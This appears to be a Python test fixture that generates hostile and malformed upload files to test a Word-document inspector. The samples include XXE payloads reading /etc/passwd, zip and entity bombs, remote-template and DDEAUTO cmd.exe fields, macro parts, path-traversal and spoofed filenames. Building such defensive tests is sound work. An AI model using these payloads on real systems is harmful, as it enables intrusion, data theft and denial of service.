"""Two hundred and more files that must not come in: hostile, broken, or something else than a Word document.

Each is made in code, and each says what it is, by which reasons it may be refused, and under which name it is sent.
Nothing here can do harm: what would run does nothing, and the bombs are small.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

from portal.uploads.inspection import Reason
from tests.review_pages.report.word_files import NAMESPACES, paragraph, word_parts

BODY = paragraph("Report", style="Title") + paragraph("She rang the surgery.")
PARTS: dict[str, str | bytes] = {**word_parts(BODY)}
RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CFB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True, slots=True)
class HostileFile:
    """A file, the kind of trouble that it is, and the reasons that are right for it."""

    kind: str
    what: str
    data: bytes
    reasons: frozenset[Reason]
    name: str = "Overview report.docx"


def packed(parts: dict[str, str | bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The parts as a zip, each as it is given."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def with_parts(**more: str | bytes) -> bytes:
    return packed({**PARTS, **more})


def with_part(name: str, content: str | bytes) -> bytes:
    return packed({**PARTS, name: content})


def changed(name: str, old: str, new: str) -> bytes:
    """The sound file with something replaced in one part."""
    part = str(PARTS[name])
    assert old in part
    return packed({**PARTS, name: part.replace(old, new, 1)})


SOUND = packed(PARTS)


def old_office(*streams: str) -> bytes:
    """The shape of an older Office file: its magic number, and names of streams as its directory has them."""
    return CFB + bytes(504) + b"".join(name.encode("utf-16-le").ljust(128, b"\0") for name in streams) + bytes(1024)


def truncated() -> Iterator[tuple[str, bytes]]:
    for percent in range(2, 100, 3):
        yield f"cut off after {percent} %", SOUND[: len(SOUND) * percent // 100]
    yield "without its last byte", SOUND[:-1]
    yield "without its directory", SOUND[: SOUND.index(b"PK\x01\x02")]
    yield "without its beginning", SOUND[100:]
    yield "its middle filled with zeros", SOUND[:200] + bytes(len(SOUND) - 400) + SOUND[-200:]
    for at in (40, 120, 200):
        broken = bytearray(SOUND)
        broken[at : at + 20] = b"\xff" * 20
        yield f"twenty bytes overwritten at {at}", bytes(broken)


def empty() -> Iterator[tuple[str, bytes]]:
    yield "no byte", b""
    yield "an empty zip", b"PK\x05\x06" + bytes(18)
    yield "a zip with empty folders only", packed({"word/": b"", "docProps/": b""})
    yield "a kilobyte of zeros", bytes(1024)
    yield "one byte", b"\0"
    yield "two letters", b"PK"
    for name in ("word/document.xml", "[Content_Types].xml"):
        yield f"an empty {name} and nothing else", packed({name: b""})


def protected() -> Iterator[tuple[str, bytes]]:
    yield "Word's own password", old_office("EncryptionInfo", "EncryptedPackage")
    yield "rights management", old_office("DataSpaces", "EncryptedPackage")
    for name in PARTS:
        locked = bytearray(SOUND)
        at = -1
        while (at := locked.find(b"PK\x01\x02", at + 1)) >= 0:
            length = int.from_bytes(locked[at + 28 : at + 30], "little")
            if locked[at + 46 : at + 46 + length] == name.encode():
                locked[at + 8] |= 1
        yield f"a zip whose {name} needs a password", bytes(locked)


def macros() -> Iterator[tuple[str, bytes]]:
    vba = old_office("VBA", "_VBA_PROJECT", "dir")
    for kind in (
        "application/vnd.ms-word.document.macroEnabled.main+xml",
        "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
        "application/vnd.ms-word.document.MACROENABLED.main+xml",
    ):
        yield f"declared as {kind.rsplit('.', 2)[0][-40:]}", changed("[Content_Types].xml", _MAIN, kind)
    for name in (
        "word/vbaProject.bin",
        "word/VBAPROJECT.BIN",
        "customXml/vbaProject.bin",
        "word/vbaProject2.bin",
        "word/vbaData.xml",
        "word/activeX/activeX1.bin",
        "word/activeX/activeX1.xml",
        "xl/macrosheets/sheet1.xml",
    ):
        yield f"a part {name}", with_part(name, vba if name.lower().endswith("bin") else "<x/>")
    for name in ("word/media/image1.png", "word/theme/theme1.xml", "docProps/thumbnail.jpeg", "word/fonts/font1.odttf"):
        yield f"a project of macros that calls itself {name}", with_part(name, vba)
    for kind in ("vbaProject", "wordVbaData", "control", "xlMacrosheet"):
        relation = f'<Relationship Id="m1" Type="{RELATIONS}/{kind}" Target="harmless.xml"/></Relationships>'
        yield f"a relation of kind {kind}", changed("word/_rels/document.xml.rels", "</Relationships>", relation)
    default = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    yield "a default type for macros", changed("[Content_Types].xml", "</Types>", default)
    inner = packed({**PARTS, "word/vbaProject.bin": vba})
    yield "a file with macros inside the file", with_part("word/embeddings/document1.docx", inner)
    yield "and one level deeper", with_part("word/embeddings/a.docx", with_part("word/embeddings/b.docx", inner))


def bombs() -> Iterator[tuple[str, bytes]]:
    spaces = b" " * 45_000_000
    for name in ("word/document.xml", "word/media/image1.bmp", "customXml/item1.xml", "docProps/app.xml"):
        yield f"45 MB of spaces in {name}", with_part(name, b"<x>" + spaces + b"</x>")
    yield "parts of 30 MB each", packed({**PARTS, **{f"word/media/{n}.bin": bytes(30_000_000) for n in range(3)}})
    yield "six thousand parts", packed({**PARTS, **{f"customXml/item{n}.xml": b"" for n in range(6000)}}, 0)
    inner = packed({f"{n}.bin": bytes(10_000_000) for n in range(2)})
    nested = inner
    for depth in range(1, 5):
        nested = packed({**PARTS, "word/embeddings/next.docx": nested})
        yield f"zips in zips, {depth} deep", nested
    yield "overlapping parts", _overlapping()
    said = bytearray(SOUND)
    at = said.find(b"PK\x01\x02")
    said[at + 24 : at + 28] = struct.pack("<I", 0xFFFFFFF0)
    yield "a part that says it is 4 GB", bytes(said)


def _overlapping() -> bytes:
    """The flat bomb: a directory that names the same packed bytes five hundred times."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed_bytes = packer.compress(bytes(30_000)) + packer.flush()
    name, crc = b"a.bin", zlib.crc32(bytes(30_000))
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, crc, len(packed_bytes), 30_000, len(name), 0)
    local = b"PK\x03\x04" + head + name + packed_bytes
    directory = b""
    for number in range(500):
        entry = f"{number:04}".encode() + b"x"
        directory += b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + entry
    end = struct.pack("<HHHHIIH", 0, 0, 500, 500, len(directory), len(local), 0)
    return local + directory + b"PK\x05\x06" + end


def entities() -> Iterator[tuple[str, bytes]]:
    lol = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(9))
    types = {
        "an external entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>',
        "an entity from the network": '<!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1:9/">]>',
        "a parameter entity": '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;]>',
        "a billion laughs": f"<!DOCTYPE x [{lol}]>",
        "a document type elsewhere": '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">',
    }
    for what, doctype in types.items():
        for name in ("word/document.xml", "word/styles.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"):
            yield f"{what} in {name}", packed({**PARTS, name: f'<?xml version="1.0"?>{doctype}{PARTS[name]!s}'})
    doctype = types["an external entity"]
    for name in ("customXml/item1.xml", "docProps/custom.xml", "word/media/image1.svg"):
        yield f"an external entity in {name}", with_part(name, f"{doctype}<x>&e;</x>")
    wide = f'<?xml version="1.0" encoding="UTF-16"?>{doctype}<x>&e;</x>'.encode("utf-16")
    yield "an external entity in UTF-16", with_part("customXml/item1.xml", wide)
    seven = b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4-<x/>'
    yield "XML in UTF-7", with_part("customXml/item1.xml", seven)


def fetching() -> Iterator[tuple[str, bytes, Reason]]:
    for target in (
        "http://198.51.100.7/evil.dotm",
        "https://templates.example/t.dotx",
        "\\\\server\\share\\t.dotx",
        "file://server/share/t.dotm",
        "file:///\\\\server\\share\\t.dotm",
        "//server/share/t.dotm",
    ):
        relation = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="t" Type="{RELATIONS}/attachedTemplate" Target="{target}" TargetMode="External"/>'
            "</Relationships>"
        )
        yield f"a template at {target}", with_part("word/_rels/settings.xml.rels", relation), Reason.REMOTE_TEMPLATE
    for kind, target, reason in (
        ("image", "http://198.51.100.7/pixel.png", Reason.REMOTE_PICTURE),
        ("image", "\\\\server\\share\\pixel.png", Reason.REMOTE_PICTURE),
        ("oleObject", "http://198.51.100.7/x.html!", Reason.REMOTE),
        ("oleObject", "file:///C:\\Windows\\System32\\calc.exe", Reason.REMOTE),
        ("frame", "http://198.51.100.7/frame.html", Reason.REMOTE),
        ("subDocument", "http://198.51.100.7/part.docx", Reason.REMOTE),
        ("aFChunk", "http://198.51.100.7/part.html", Reason.REMOTE),
    ):
        relation = f'<Relationship Id="f" Type="{RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        data = changed("word/_rels/document.xml.rels", "</Relationships>", relation + "</Relationships>")
        yield f"{kind} at {target}", data, reason
    for what, runs in (
        ("DDEAUTO", ['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"']),
        ("DDE", ["DDE Excel book1 r1c1"]),
        ("DDE in pieces", ["D", "DEA", "UTO cmd"]),
        ("DDE in character references", ["&#68;&#68;E cmd"]),
        ("INCLUDEPICTURE", ['INCLUDEPICTURE "http://198.51.100.7/x.png" \\d']),
        ("INCLUDETEXT", ['INCLUDETEXT "\\\\\\\\server\\\\share\\\\x.docx"']),
    ):
        codes = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
        field = f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{codes}</w:p>'
        data = packed({**PARTS, **word_parts(BODY + field)})
        yield f"a field {what}", data, Reason.COMMANDS
    simple = '<w:p><w:fldSimple w:instr="DDEAUTO cmd"/></w:p>'
    yield "a simple field", packed({**PARTS, **word_parts(BODY + simple)}), Reason.COMMANDS


def packed_inside() -> Iterator[tuple[str, bytes]]:
    for what, start in (("Windows", b"MZ"), ("Linux", b"\x7fELF"), ("macOS", b"\xcf\xfa\xed\xfe"), ("shell", b"#!/")):
        yield f"a program for {what}", with_part("word/media/image1.png", start + bytes(100))
    yield "a packed file", with_part("word/embeddings/oleObject1.bin", old_office("\x01Ole10Native"))
    yield "a shortcut", with_part("word/embeddings/link.bin", b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(80))
    yield "a zip", with_part("word/embeddings/package.zip", packed({"run.js": "alert(1)"}))
    yield "a protected file", with_part("word/embeddings/secret.docx", old_office("EncryptedPackage"))


def part_names() -> Iterator[tuple[str, bytes]]:
    for name in (
        "../../etc/cron.d/job",
        "word/../../evil.xml",
        "/etc/passwd",
        "C:\\Windows\\evil.dll",
        "..\\..\\evil.xml",
        "word/a\nb.xml",
        "x" * 300 + ".xml",
    ):
        yield f"a part called {name[:30]!r}", with_part(name, "<x/>")
    yield "two parts of one name", packed({**PARTS, "WORD/document.xml": str(PARTS["word/document.xml"])})


def other_types() -> Iterator[tuple[str, bytes]]:
    yield "a PDF", pdf()
    yield "a PDF with a script", pdf(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    for form in ("PNG", "JPEG", "GIF", "BMP", "TIFF", "WEBP"):
        file = io.BytesIO()
        Image.new("RGB", (8, 8)).save(file, form)
        yield f"a picture ({form})", file.getvalue()
    workbook = {
        "[Content_Types].xml": str(PARTS["[Content_Types].xml"])
        .replace("wordprocessingml.document.main", "spreadsheetml.sheet.main")
        .replace("/word/document.xml", "/xl/workbook.xml"),
        "xl/workbook.xml": "<workbook/>",
    }
    yield "an Excel workbook", packed({**workbook})
    yield "a PowerPoint file", packed({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"})
    yield "an OpenDocument text", packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})
    yield "a Pages file", packed({"Index/Document.iwa": b"\0"})
    yield "a zip of notes", packed({"notes.txt": "hello"})
    yield "a Java program", packed({"META-INF/MANIFEST.MF": "Manifest-Version: 1.0"})
    yield "an office file without text", packed({"[Content_Types].xml": "<Types/>"})
    yield "an older Word file", old_office("WordDocument", "1Table")
    yield "an older Word file with macros", old_office("WordDocument", "Macros", "_VBA_PROJECT")
    yield "an older Excel file", old_office("Workbook")
    yield "an Outlook message", old_office("__substg1.0_0037001F")
    yield from {
        "rich text": b"{\\rtf1\\ansi report}",
        "rich text with an object": b"{\\rtf1{\\object\\objdata 0105}}",
        "a web page": b"<!DOCTYPE html><html><body>Sign in to OneDrive</body></html>",
        "a web page with a script": b"<script>alert(1)</script>",
        "XML": b'<?xml version="1.0"?><w:wordDocument/>',
        "a picture of lines (SVG)": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "plain text": b"Dear colleague, here is the report.",
        "a table of values": b"date,event\n2026-01-01,She rang\n",
        "an e-mail": b"From: a@example.test\nSubject: Report\n\nAttached.",
        "a Windows program": b"MZ\x90\x00" + bytes(200),
        "a Linux program": b"\x7fELF" + bytes(200),
        "a shell script": b"#!/bin/sh\nrm -rf /nothing\n",
        "a Windows shortcut": b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(60),
        "7-Zip": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "RAR": b"Rar!\x1a\x07\x00" + bytes(60),
        "gzip": b"\x1f\x8b\x08" + bytes(60),
        "a recording": b"ID3\x04" + bytes(60),
        "a film": b"\x00\x00\x00\x18ftypmp42" + bytes(60),
        "noise": bytes(range(256)) * 20,
        "a test virus": rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    }.items()


def pdf(action: pikepdf.Object | None = None, **root: pikepdf.Object) -> bytes:
    """A PDF of one page; with `action` run when it is opened, and `root` in its catalogue."""
    document = pikepdf.new()
    document.add_blank_page()
    if action is not None:
        document.Root.OpenAction = action
    for name, value in root.items():
        document.Root[f"/{name}"] = value
    file = io.BytesIO()
    document.save(file, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return file.getvalue()


NAMES = (
    "~$erview report.docx",
    "._Overview report.docx",
    "x" * 250 + ".docx",
    "é" * 200 + ".docx",
    "../../../etc/passwd.docx",
    "report.docx\u202excod.exe",
    "report\x07.docx",
    "CON.docx",
    "<script>alert(1)</script>.docx",
    '"; filename="other.docx',
    "report.docx.exe",
    " .docx",
)


def hostile_files() -> list[HostileFile]:
    """All of them."""
    found: list[HostileFile] = []

    def add(kind: str, files: Iterator[tuple[str, bytes]], *reasons: Reason) -> None:
        found.extend(HostileFile(kind, what, data, frozenset(reasons)) for what, data in files)

    add("truncated", truncated(), Reason.DAMAGED, Reason.WRONG_TYPE)
    add("empty", empty(), Reason.EMPTY, Reason.DAMAGED, Reason.WRONG_TYPE)
    add("encrypted", protected(), Reason.PASSWORD)
    add("macro", macros(), Reason.MACROS)
    add("bomb", bombs(), Reason.BOMB, Reason.INSIDE, Reason.DAMAGED)
    add("external entity", entities(), Reason.ENTITIES)
    found += [HostileFile("fetching", what, data, frozenset({reason})) for what, data, reason in fetching()]
    add("file inside", packed_inside(), Reason.INSIDE)
    add("names of parts", part_names(), Reason.PART_NAMES)
    add("wrong type", other_types(), Reason.WRONG_TYPE)
    lock_file = b"\x07Karen T" + bytes(154)
    reasons = frozenset({Reason.WRONG_TYPE, Reason.COMPANION})
    found += [HostileFile("huge or odd name", name[:40], lock_file, reasons, name) for name in NAMES]
    found.append(HostileFile("wrong type", "a Mac's companion file", b"\x00\x05\x16\x07" + bytes(60), reasons))
    too_large = SOUND + bytes(25 * 1024 * 1024)
    found.append(HostileFile("too large", "more than 25 MB", too_large, frozenset({Reason.TOO_LARGE})))
    malformed = packed({**PARTS, "word/document.xml": f"<w:document {NAMESPACES}><w:body>"})
    found.append(HostileFile("broken", "text that is not well formed", malformed, frozenset({Reason.DAMAGED})))
    return found
